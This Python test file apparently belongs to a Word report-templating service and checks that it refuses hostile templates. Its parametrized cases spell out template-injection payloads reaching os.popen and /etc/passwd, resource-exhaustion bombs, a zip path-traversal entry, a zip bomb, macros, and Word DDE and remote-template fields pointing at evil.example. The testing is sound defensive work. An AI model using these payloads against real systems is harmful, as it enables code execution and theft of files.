"""What a template of a report may say, and what becomes of it when it is filled in."""

import io
import time
import zipfile
from types import SimpleNamespace
from typing import Any

import docx
import pytest

from services.reporting.report_templates import rules
from services.reporting.report_templates.queries.merging import Document, named_fields, write_document
from services.reporting.report_templates.queries.shipped import shipped_template
from shared.contracts.reporting.report_templates import names_of
from shared.contracts.reporting.reports import REPORTS
from shared.word_files import TemplateHasMacros, TemplateIsUnreadable

REPORT = "won-trend"
PICTURE = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108000000003a7e9b5500"
    "00000a49444154789c63f80f0001010100b138f6140000000049454e44ae426082"
)
BOMB = "{% for row in rows %}" * 3 + "x" + "{% endfor %}" * 3


def saved(document: Any) -> bytes:
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


def word_file(*paragraphs: str, footer: str = "") -> bytes:
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    document.sections[0].footer.paragraphs[0].text = footer
    return saved(document)


def packed(*parts: tuple[str, bytes], content: bytes | None = None) -> bytes:
    """A Word file with further parts, or others of the same name."""
    file, names = io.BytesIO(), {name for name, _ in parts}
    with zipfile.ZipFile(io.BytesIO(content or word_file("Hello"))) as given, zipfile.ZipFile(file, "w") as made:
        for one in given.infolist():
            if one.filename not in names:
                made.writestr(one, given.read(one))
        for name, told in parts:
            made.writestr(name, told, zipfile.ZIP_DEFLATED)
    return file.getvalue()


def body(xml: str) -> bytes:
    """A Word file with this in its text."""
    whole = word_file("HERE")
    with zipfile.ZipFile(io.BytesIO(whole)) as given:
        text = given.read("word/document.xml").decode()
    return packed(("word/document.xml", text.replace("HERE", xml).encode()), content=whole)


def month(time: str, count: str, amount: str) -> SimpleNamespace:
    cells = [time, "USD", count, amount]
    return SimpleNamespace(time=time, currency="USD", count=count, amount=amount, cells=cells)


def filled(content: bytes, *rows: SimpleNamespace, **more: Any) -> Any:
    columns = [SimpleNamespace(name=one.name, title=one.title["en"]) for one in REPORTS[REPORT].columns]
    names = {
        **dict.fromkeys(("title", "question", "today", "as_of"), "Trend"),
        "asked": [], "columns": columns, "rows": list(rows), "total_columns": [], "totals": [], **more,
    }  # fmt: skip
    made = write_document(content, Document(names, PICTURE, "What is shown", len(rows)))
    return docx.Document(io.BytesIO(made))


@pytest.mark.parametrize("report", sorted(REPORTS))
def test_the_shipped_template_says_what_every_report_has(report: str) -> None:
    assert {"title", "chart", "columns", "rows", "totals"} <= set(named_fields(shipped_template(), report))


def test_loops_conditions_and_filters_are_filled_in_where_they_stand() -> None:
    document = docx.Document()
    for text in ("{% if rows %}{{ title|upper }}{% else %}none{% endif %}", "{{ title", " }}!"):
        document.add_paragraph(text) if "title|" in text else document.paragraphs[-1].add_run(text)
    table = document.add_table(rows=3, cols=2)
    table.rows[0].cells[0].text = "{%tr for month in rows %}"
    table.rows[1].cells[0].text = "{{ loop.index }}: {{ month.time }}"
    table.rows[1].cells[1].text = "{{ month.amount }}"
    table.rows[2].cells[0].text = "{%tr endfor %}"
    content = saved(document)
    assert named_fields(content, REPORT) == ["loop.index", "rows", "rows[].amount", "rows[].time", "title"]
    made = filled(content, month("2026-01", "1", "5.00"), month("2026-02", "2", "7.50"))
    assert made.paragraphs[0].text == "TRENDTrend!"
    cells = [[cell.text for cell in row.cells] for row in made.tables[0].rows]
    assert cells == [["1: 2026-01", "5.00"], ["2: 2026-02", "7.50"]]
    assert filled(content).paragraphs[0].text == "noneTrend!"


def test_a_value_is_a_text_whatever_signs_it_holds_and_names_nothing_itself() -> None:
    hostile = "<w:t> & {{ title }} {% for x in rows %} ]]>"
    made = filled(word_file("{{ title }}", "{{ chart }}", footer="{{ today }}"), title=hostile, today="太贵\n<b>")
    assert made.paragraphs[0].text == hostile
    assert made.sections[0].footer.paragraphs[0].text == "太贵\n<b>"
    [drawing] = made.element.body.iter("{*}docPr")
    assert drawing.get("descr") == "What is shown"


@pytest.mark.parametrize(
    ("text", "refusal"),
    [
        ("{{ 7 * 7 }}", rules.TemplateStatementIsRefused),
        ("{{ 'x' * 1000000000 }}", rules.TemplateStatementIsRefused),
        ("{{ title.__class__.__mro__ }}", rules.TemplateFieldsAreUnknown),
        ("{{ title|attr('__class__') }}", rules.TemplateStatementIsRefused),
        ("{{ title['__class__'] }}", rules.TemplateStatementIsRefused),
        ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", rules.TemplateStatementIsRefused),
        ("{{ self._TemplateReference__context }}", rules.TemplateFieldsAreUnknown),
        ("{{ lipsum(5) }}", rules.TemplateStatementIsRefused),
        ("{{ title.format(1) }}", rules.TemplateStatementIsRefused),
        ("{{ title|center(1000000000) }}", rules.TemplateStatementIsRefused),
        ("{% for x in range(100000) %}x{% endfor %}", rules.TemplateStatementIsRefused),
        ("{% for x in title %}x{% endfor %}", rules.TemplateStatementIsRefused),
        (BOMB, rules.TemplateStatementIsRefused),
        ("{% for r in rows %}{% for c in columns %}x{% endfor %}{% endfor %}", rules.TemplateStatementIsRefused),
        (
            "{% for r in rows %}{% for c in r.cells %}{% for d in r.cells %}x{% endfor %}{% endfor %}{% endfor %}",
            rules.TemplateStatementIsRefused,
        ),
        ("{% for r in rows recursive %}{{ loop(rows) }}{% endfor %}", rules.TemplateStatementIsRefused),
        ("{% set x = title %}{{ x }}", rules.TemplateStatementIsRefused),
        ("{% include '/etc/passwd' %}", rules.TemplateStatementIsRefused),
        ("{% import 'os' as os %}", rules.TemplateStatementIsRefused),
        ("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", rules.TemplateStatementIsRefused),
        ("{% extends 'x' %}", rules.TemplateStatementIsRefused),
        ("{% autoescape false %}{{ title }}{% endautoescape %}", rules.TemplateStatementIsRefused),
        ("{{ title|safe }}", rules.TemplateStatementIsRefused),
        ("{{ nickname }}", rules.TemplateFieldsAreUnknown),
        ("{{ rows }}", rules.TemplateFieldsAreUnknown),
        ("{% for row in rows %}{{ row.margin }}{% endfor %}", rules.TemplateFieldsAreUnknown),
        ("{% for row in rows %}", rules.TemplateIsWrong),
        ("{{ title", rules.TemplateIsWrong),
        ("{% endfor %}", rules.TemplateIsWrong),
        ("{{ title }}" * 500, TemplateIsUnreadable),
        ("{{" * 300_000, TemplateIsUnreadable),
    ],
    ids=lambda value: value[:40] if isinstance(value, str) else value.__name__,
)
def test_what_a_template_may_not_say_is_refused_before_anything_of_it_has_run(text: str, refusal: type) -> None:
    began = time.process_time()
    for content in (word_file(text), word_file("Hello", footer=text)):
        with pytest.raises(refusal):
            named_fields(content, REPORT)
    assert time.process_time() - began < 10


def test_what_is_unknown_is_told_with_what_there_is() -> None:
    with pytest.raises(rules.TemplateFieldsAreUnknown) as refused:
        named_fields(word_file("{{ nickname }} {% for row in rows %}{{ row.margin }}{% endfor %}"), REPORT)
    assert refused.value.extra["fields"] == ["nickname", "row.margin"]
    known = refused.value.extra["known"]
    assert {"title", "chart", "columns[].title", "rows[].time", "rows[].amount", "rows[].cells[]"} <= set(known)
    assert set(names_of(REPORTS[REPORT])) == {one.partition("[")[0] for one in known}


@pytest.mark.parametrize(
    ("content", "refusal"),
    [
        (b"no archive at all", TemplateIsUnreadable),
        (word_file("Hello")[:2000], TemplateIsUnreadable),
        (packed(("../../etc/passwd", b"x")), TemplateIsUnreadable),
        (packed(("word/media/bomb.png", bytes(40_000_000))), TemplateIsUnreadable),
        (packed(("word/vbaProject.bin", b"x")), TemplateHasMacros),
        (packed(("word/document.xml", b"<x/>")), TemplateIsUnreadable),
        (packed(("word/document.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><x>&b;</x>')), TemplateIsUnreadable),
        (
            packed(("word/document.xml", '<!DOCTYPE a [<!ENTITY b "c">]><x>&b;</x>'.encode("utf-16"))),
            TemplateIsUnreadable,
        ),
        (packed(("word/footnotes.xml", b"<w><t>{{ title }}</t></w>")), rules.TemplateFieldIsMisplaced),
        (
            packed(
                (
                    "word/_rels/settings.xml.rels",
                    b'<Relationships><Relationship Id="a" Type="http://x/attachedTemplate"'
                    b' Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>',
                )
            ),
            rules.TemplateReachesOut,
        ),
        (body("<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd</w:instrText>"), rules.TemplateReachesOut),
        (body('<w:fldSimple w:instr="INCLUDEPICTURE http://evil.example"/>'), rules.TemplateReachesOut),
    ],
    ids=lambda value: value.__name__ if isinstance(value, type) else str(len(value)),
)
def test_a_file_that_is_none_or_reaches_out_is_refused(content: bytes, refusal: type) -> None:
    with pytest.raises(refusal):
        named_fields(content, REPORT)


@pytest.mark.parametrize("statement", ["{%p for row in rows %}", "{%p if rows %}"])
def test_statements_that_would_break_the_document_are_refused(statement: str) -> None:
    document = docx.Document()
    document.add_paragraph(statement)
    document.add_table(rows=1, cols=1).rows[0].cells[0].text = "{%p endfor %}" if "for" in statement else "{%p endif %}"
    with pytest.raises(rules.TemplateIsWrong):
        named_fields(saved(document), REPORT)


def test_a_document_has_an_end() -> None:
    rows = [month("2026-01", "1", "5.00")] * 1000
    assert len(filled(word_file("{%p for row in rows %}", "{{ row.time }}", "{%p endfor %}"), *rows).paragraphs) == 1000
    with pytest.raises(rules.DocumentIsTooLarge):
        filled(word_file("Hello"), *rows, rows[0])
    long = "x" * 200_000
    with pytest.raises(rules.DocumentIsTooLarge):
        filled(word_file("{%p for row in rows %}", long, "{%p endfor %}"), *rows)
